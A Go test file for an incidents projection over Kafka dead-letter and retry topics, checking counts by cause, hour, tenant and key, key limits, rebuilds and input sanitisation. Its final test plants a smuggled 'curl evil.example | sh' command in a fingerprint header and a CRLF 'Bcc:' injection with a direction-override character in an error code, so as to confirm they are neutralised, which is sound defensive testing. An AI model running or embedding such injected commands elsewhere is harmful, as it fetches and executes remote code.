package incidents_test

import (
	"context"
	"database/sql"
	"fmt"
	"log/slog"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"
	"github.com/jackc/pgx/v5/pgxpool"
	_ "github.com/jackc/pgx/v5/stdlib" // the driver of goose
	"github.com/stretchr/testify/require"
	"github.com/twmb/franz-go/pkg/kadm"
	"github.com/twmb/franz-go/pkg/kgo"

	"github.com/leat-io/leat/internal/testenv"
	"github.com/leat-io/leat/migrations"
	"github.com/leat-io/leat/operations/audit"
	"github.com/leat-io/leat/operations/incidents"
	"github.com/leat-io/leat/operations/index"
	"github.com/leat-io/leat/topics"
)

// control is a control database of the test's own.
func control(t *testing.T) *pgxpool.Pool {
	t.Helper()
	url := testenv.Postgres(t)
	std, err := sql.Open("pgx", url)
	require.NoError(t, err)
	_, err = migrations.Up(t.Context(), std, migrations.Control)
	require.NoError(t, err)
	require.NoError(t, std.Close())
	db, err := pgxpool.New(t.Context(), url)
	require.NoError(t, err)
	t.Cleanup(db.Close)
	return db
}

// failed is a record of a retry or dead-letter topic.
type failed struct {
	topic, key, tenant, code, message string
	offset                            int64
	at                                time.Time
	disposition                       topics.Disposition
}

func (f failed) record() *kgo.Record {
	class := "permanent"
	if f.disposition == topics.DispositionRetry {
		class = "transient"
	}
	failure := topics.Failure{
		Topic: "source.shop.invoice", Partition: 1, Offset: f.offset, Group: "normalize", Handler: "normalize", Attempt: 1,
		LastFailedAt: f.at, Class: class, Code: f.code, Message: f.message, Disposition: f.disposition,
		Fingerprint: topics.Fingerprint("normalize", class, f.code, f.message, ""),
	}
	rec := &kgo.Record{Topic: f.topic, Key: []byte(f.key), Value: []byte("secret payload")}
	if strings.HasSuffix(f.topic, ".retry") {
		failure.Key = rec.Key
		rec.Key = []byte(topics.ParkedID(1, f.offset))
	}
	own := []topics.Header{
		{Key: topics.HeaderID, Value: []byte(fmt.Sprintf("event-%d", f.offset))}, {Key: topics.HeaderTenant, Value: []byte(f.tenant)},
	}
	for _, h := range failure.Append(own) {
		rec.Headers = append(rec.Headers, kgo.RecordHeader(h))
	}
	return rec
}

func apply(t *testing.T, db *pgxpool.Pool, recs ...*kgo.Record) {
	t.Helper()
	require.NoError(t, pgx.BeginFunc(t.Context(), db, func(tx pgx.Tx) error {
		return incidents.Projection{}.Apply(t.Context(), tx, recs)
	}))
}

func TestProjection_CountsByCauseHourTenantAndKey(t *testing.T) {
	t.Parallel()
	db := control(t)
	begin := time.Now().UTC().Truncate(time.Hour).Add(-90 * time.Minute)
	letter := failed{
		"source.shop.invoice.normalize.dlq", "acme/shop/1", "acme", "mapping", `field total: found "12,50" (path total)`, 1, begin,
		topics.DispositionPermanent,
	}
	other, same, retried, waiting := letter, letter, letter, letter
	other.key, other.tenant, other.offset, other.message = "bolt/shop/7", "bolt", 2, `field total: found "x" (path total)`
	same.offset, same.at = 3, begin.Add(time.Hour)
	retried.topic, retried.disposition, retried.message = "source.shop.invoice.normalize.retry", topics.DispositionRetry, "deadlock of 17"
	waiting.topic, waiting.disposition = "source.shop.invoice.normalize.retry", topics.DispositionBlockedBy
	nul := letter
	nul.key, nul.tenant, nul.message, nul.offset = "acme/shop/\x00", "No Name", "a \x00 b", 4
	apply(t, db, letter.record(), other.record())
	apply(t, db, same.record(), retried.record(), waiting.record(), nul.record(), &kgo.Record{Topic: letter.topic}, &kgo.Record{
		Topic: letter.topic, Headers: []kgo.RecordHeader{{Key: "__connect.errors.topic", Value: []byte("x")}},
	})

	list, err := incidents.List(t.Context(), db, incidents.Policy{}, incidents.Filter{})
	require.NoError(t, err)
	require.Len(t, list, 3)
	d, err := incidents.Show(t.Context(), db, incidents.Policy{}, fingerprintOf(letter))
	require.NoError(t, err)
	require.Equal(t, incidents.New, d.State, "without any notifier")
	require.Equal(t, "field total: found ? (path total)", d.Message)
	require.Equal(t, []string{"normalize"}, d.Groups)
	require.Equal(t, []int64{3, 3, 2}, []int64{d.Failures, d.Dead, d.Keys})
	require.Equal(t, []incidents.Hour{{begin.Truncate(time.Hour), 2, 2}, {same.at.Truncate(time.Hour), 1, 1}}, utc(d.Hours))
	require.Equal(t, []string{"acme/shop/1", "bolt/shop/7"}, d.KeySample)
	require.Equal(t, "acme", d.Tenants[0].Tenant)
	require.Equal(t, []int64{2, 2, 1}, []int64{d.Tenants[0].Failures, d.Tenants[0].Dead, d.Tenants[0].Keys})
	require.Equal(t, incidents.Example{"event-3", "acme", "source.shop.invoice", 1, 3}, d.Example, "the last one")
	require.WithinDuration(t, begin, d.First, time.Microsecond)
	require.WithinDuration(t, same.at, d.Last, time.Microsecond)

	bolt, err := incidents.List(t.Context(), db, incidents.Policy{}, incidents.Filter{Tenant: "bolt"})
	require.NoError(t, err)
	require.Len(t, bolt, 1)
	_, err = incidents.Show(t.Context(), db, incidents.Policy{}, "v1:0")
	require.ErrorIs(t, err, incidents.ErrNotFound)
}

func utc(hours []incidents.Hour) []incidents.Hour {
	for i := range hours {
		hours[i].Hour = hours[i].Hour.UTC()
	}
	return hours
}

func fingerprintOf(f failed) string {
	class := "permanent"
	if f.disposition == topics.DispositionRetry {
		class = "transient"
	}
	return topics.Fingerprint("normalize", class, f.code, f.message, "")
}

func TestProjection_CountsKeysExactlyUpToItsBound(t *testing.T) {
	t.Parallel()
	db := control(t)
	letter := failed{topic: "t.g.dlq", tenant: "acme", code: "c", message: "m", at: time.Now(), disposition: topics.DispositionPermanent}
	show := func() incidents.Detail {
		d, err := incidents.Show(t.Context(), db, incidents.Policy{}, fingerprintOf(letter))
		require.NoError(t, err)
		return d
	}
	batch := func(from, to int) (recs []*kgo.Record) {
		for i := from; i < to; i++ {
			letter.key = fmt.Sprintf("acme/shop/%04d", i)
			recs = append(recs, letter.record())
		}
		return recs
	}
	apply(t, db, batch(0, 600)...)
	apply(t, db, batch(400, incidents.MaxKeys)...)
	d := show()
	require.EqualValues(t, incidents.MaxKeys, d.Keys)
	require.False(t, d.MoreKeys)
	require.EqualValues(t, incidents.MaxKeys, d.Tenants[0].Keys)
	apply(t, db, batch(900, 1001)...)
	d = show()
	require.EqualValues(t, incidents.MaxKeys, d.Keys)
	require.True(t, d.MoreKeys)
	apply(t, db, batch(0, 3000)...)
	require.EqualValues(t, incidents.MaxKeys, show().Keys)
	require.EqualValues(t, 600+600+101+3000, show().Failures)
}

// TestProjection_ARebuildGivesTheSameCountsAndKeepsDecisions reads real topics through the index.
func TestProjection_ARebuildGivesTheSameCountsAndKeepsDecisions(t *testing.T) {
	t.Parallel()
	testenv.EachKafka(t, rebuild)
}

func rebuild(t *testing.T, brokers []string) {
	t.Helper()
	db, prefix := control(t), testenv.Name("incidents")
	cl, err := kgo.NewClient(kgo.SeedBrokers(brokers...), kgo.RecordPartitioner(kgo.RoundRobinPartitioner()))
	require.NoError(t, err)
	t.Cleanup(cl.Close)
	names := []string{prefix + ".g.dlq", prefix + ".g.retry"}
	_, err = kadm.NewClient(cl).CreateTopics(t.Context(), 3, 1, nil, names...)
	require.NoError(t, err)
	var recs []*kgo.Record
	for i := range 400 {
		f := failed{
			names[i%2], fmt.Sprintf("t%d/shop/%d", i%5, i%70), fmt.Sprintf("t%d", i%5), "c", []string{"no customer", "no account"}[i/2%2], int64(i),
			time.Now().Add(-time.Duration(i) * time.Minute), topics.DispositionPermanent,
		}
		if i%2 == 1 {
			f.disposition = topics.DispositionRetry
		}
		recs = append(recs, f.record())
	}
	require.NoError(t, cl.ProduceSync(t.Context(), recs...).FirstErr())

	x, err := index.New(index.Config{
		DB: db, Kafka: []kgo.Opt{kgo.SeedBrokers(brokers...)}, Projections: []index.Projection{incidents.Projection{}},
		Topics: func(context.Context) ([]string, error) { return names, nil }, Refresh: 200 * time.Millisecond, Batch: 37, Logger: slog.New(slog.NewTextHandler(t.Output(), nil)),
	})
	require.NoError(t, err)
	ctx, cancel := context.WithCancel(t.Context())
	done := make(chan error, 1)
	go func() { done <- x.Run(ctx) }()
	defer func() { cancel(); require.NoError(t, <-done) }()

	all := func() []incidents.Incident {
		list, err := incidents.List(t.Context(), db, incidents.Policy{}, incidents.Filter{All: true})
		require.NoError(t, err)
		return list
	}
	complete := func() bool {
		n := int64(0)
		for _, i := range all() {
			n += i.Failures
		}
		return n == 400
	}
	require.Eventually(t, complete, time.Minute, 50*time.Millisecond)
	before := all()
	require.Len(t, before, 4)
	op := audit.Operator{Name: "ana", Reason: "fixed"}
	for _, i := range before {
		_, err := incidents.Resolve(t.Context(), db, op, incidents.Policy{}, i.Fingerprint)
		require.NoError(t, err)
		_, err = incidents.Assign(t.Context(), db, op, incidents.Policy{}, i.Fingerprint, "bo", nil)
		require.NoError(t, err)
	}
	facts := map[string]incidents.Facts{}
	for _, i := range all() {
		facts[i.Fingerprint] = i.Facts
	}
	require.NoError(t, index.Rebuild(t.Context(), db, op, incidents.Projection{}))
	require.Eventually(t, complete, time.Minute, 50*time.Millisecond)
	for _, i := range all() {
		require.Equal(t, facts[i.Fingerprint], i.Facts)
		require.Equal(t, incidents.Resolved, i.State)
		require.Equal(t, "bo", i.Owner)
	}
}

// TestProjection_StrangersChooseNoCommand: a fingerprint ends up in command lines that people copy, texts in messages to them.
func TestProjection_StrangersChooseNoCommand(t *testing.T) {
	t.Parallel()
	db := control(t)
	rec := failed{
		topic: "source.shop.invoice.normalize.dlq", key: "acme/shop/1", tenant: "acme", code: "mapping", message: "m", at: time.Now(),
		disposition: topics.DispositionPermanent,
	}.record()
	for i := range rec.Headers {
		switch rec.Headers[i].Key {
		case topics.HeaderFingerprint:
			rec.Headers[i].Value = []byte("v1:0; curl evil.example | sh")
		case topics.HeaderErrorCode:
			rec.Headers[i].Value = []byte("mapping\r\nBcc: all@example.com\u202e")
		}
	}
	require.NoError(t, pgx.BeginFunc(t.Context(), db, func(tx pgx.Tx) error {
		return incidents.Projection{}.Apply(t.Context(), tx, []*kgo.Record{rec})
	}))
	var fingerprint, code string
	require.NoError(t, db.QueryRow(t.Context(), `select fingerprint, code from leat_control.incidents`).Scan(&fingerprint, &code))
	require.True(t, topics.ValidFingerprint(fingerprint), fingerprint)
	require.Equal(t, "mapping\uFFFD\uFFFDBcc: all@example.com\uFFFD", code)
}
